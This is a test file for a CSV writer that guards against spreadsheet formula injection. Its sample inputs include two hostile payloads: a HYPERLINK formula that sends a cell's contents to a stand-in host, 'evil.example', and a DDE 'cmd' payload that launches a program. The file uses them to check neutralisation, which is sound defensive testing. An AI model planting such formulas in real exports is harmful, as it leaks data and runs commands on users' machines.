import { describe, expect, it } from 'vitest';
import { readCsv, restoreFormulaText, spreadsheetSafeField, writeCsvLine } from './csv.ts';

/** What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection"). */
const LIVE = /^[=+\-@\t\r]/;

describe('cells a spreadsheet would run as formulas', () => {
  const texts = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")',
    '+SUM(1;2)',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(A1:A9)',
    '\tindragen',
    '\rvagnretur',
    "'=redan citerad",
    "''+två citat",
    "'inte en formel",
    'Soffa Linnea',
    '-',
    '',
  ];

  it('are written with a quote in front and in double quotes; everything else as before', () => {
    expect(spreadsheetSafeField('=1+1')).toBe(`"'=1+1"`);
    expect(spreadsheetSafeField('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
    expect(spreadsheetSafeField("'=1+1")).toBe(`"''=1+1"`);
    expect(spreadsheetSafeField('Soffa, grå')).toBe('"Soffa, grå"');
    expect(spreadsheetSafeField("'inte en formel")).toBe("'inte en formel");
  });

  it('keep a plain number in a numeric column a number, and neutralise anything else there', () => {
    expect(spreadsheetSafeField('-3', { number: true })).toBe('-3');
    expect(spreadsheetSafeField('-0.5', { number: true })).toBe('-0.5');
    expect(spreadsheetSafeField('-1e-7', { number: true })).toBe('-1e-7');
    expect(spreadsheetSafeField('-3')).toBe(`"'-3"`);
    expect(spreadsheetSafeField('-3+A1', { number: true })).toBe(`"'-3+A1"`);
  });

  it('read back as the text they were, through a whole line; no cell of the line starts a formula', () => {
    const line = `${texts.map((t) => spreadsheetSafeField(t)).join(',')}\n`;
    const [record] = readCsv(line);
    for (const field of record!.fields) expect(field).not.toMatch(LIVE);
    expect(record!.fields.map(restoreFormulaText)).toEqual(texts);
  });

  it('takes one quote off only where a formula character follows the quotes', () => {
    expect(restoreFormulaText("'=1")).toBe('=1');
    expect(restoreFormulaText("''=1")).toBe("'=1");
    expect(restoreFormulaText("'abc")).toBe("'abc");
    expect(restoreFormulaText("'")).toBe("'");
    expect(restoreFormulaText('=1')).toBe('=1');
    expect(writeCsvLine(['a', '=1'])).toBe('a,=1');
  });
});
